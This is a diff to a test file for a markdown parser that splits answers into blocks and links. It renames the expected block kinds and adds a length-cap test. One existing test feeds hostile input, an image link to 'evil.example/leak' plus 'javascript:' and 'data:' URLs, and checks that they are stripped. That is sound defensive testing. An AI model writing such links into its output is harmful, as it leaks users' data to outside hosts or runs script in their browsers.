@@ -12,12 +12,12 @@ test('splits paragraphs, headings, lists and code', () => {
     '# Delivery\nTwo days.\nAt most.\n\n- one\n- two\n\n3. three\n\n4. four\n```sh\nnpm start\n\nls\n```\nEnd',
   );
   expect(blocks).toEqual([
-    { kind: 'heading', lines: ['Delivery'], start: 1 },
-    { kind: 'paragraph', lines: ['Two days.', 'At most.'], start: 1 },
-    { kind: 'bullets', lines: ['one', 'two'], start: 1 },
-    { kind: 'numbers', lines: ['three', 'four'], start: 3 },
-    { kind: 'code', lines: ['npm start', '', 'ls'], start: 1 },
-    { kind: 'paragraph', lines: ['End'], start: 1 },
+    { kind: 'strong', lines: ['Delivery'], start: undefined },
+    { kind: 'p', lines: ['Two days.', 'At most.'], start: undefined },
+    { kind: 'ul', lines: ['one', 'two'], start: undefined },
+    { kind: 'ol', lines: ['three', 'four'], start: 3 },
+    { kind: 'pre', lines: ['npm start', '', 'ls'], start: undefined },
+    { kind: 'p', lines: ['End'], start: undefined },
   ]);
 });
 
@@ -55,6 +55,11 @@ test('links only http and https, without a password, and never an image', () => 
   const text = '![a](https://evil.example/leak?d=1) [b](javascript:x) [c](data:text/html,x)';
   expect(links(splitInline(text))).toEqual([]);
   expect(plainText(text)).toBe('a b c');
+});
+
+test('shows at most 500 lines, and 16,384 characters', () => {
+  expect(splitBlocks('- a\n'.repeat(10_000))[0]?.lines).toHaveLength(500);
+  expect(splitBlocks('a'.repeat(20_000))[0]?.lines[0]).toHaveLength(16_384);
 });
 
 describe('reads a hostile answer in one pass', () => {
